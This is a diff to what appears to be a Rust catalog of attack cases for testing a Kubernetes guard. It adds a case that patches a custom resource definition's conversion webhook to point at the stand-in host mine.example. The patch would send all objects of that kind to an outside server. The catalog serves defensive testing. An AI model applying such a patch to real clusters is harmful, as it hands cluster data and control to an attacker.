@@ -93,6 +93,15 @@ pub fn attacks() -> Result<Vec<Attack>> {
         ),
         attack(
             "G12",
+            "another server for what a kind holds",
+            Ask::merge(
+                format!("{CRDS}/attestations.ringfence.dev"),
+                json!({"spec": {"conversion": {"strategy": "Webhook", "webhook": {
+                    "conversionReviewVersions": ["v1"], "clientConfig": {"url": "https://mine.example/convert"}}}}}),
+            ),
+        ),
+        attack(
+            "G12",
             "another server for the group",
             Ask::create(json!({
                 "apiVersion": "apiregistration.k8s.io/v1", "kind": "APIService", "metadata": {"name": "v1alpha2.ringfence.dev"},
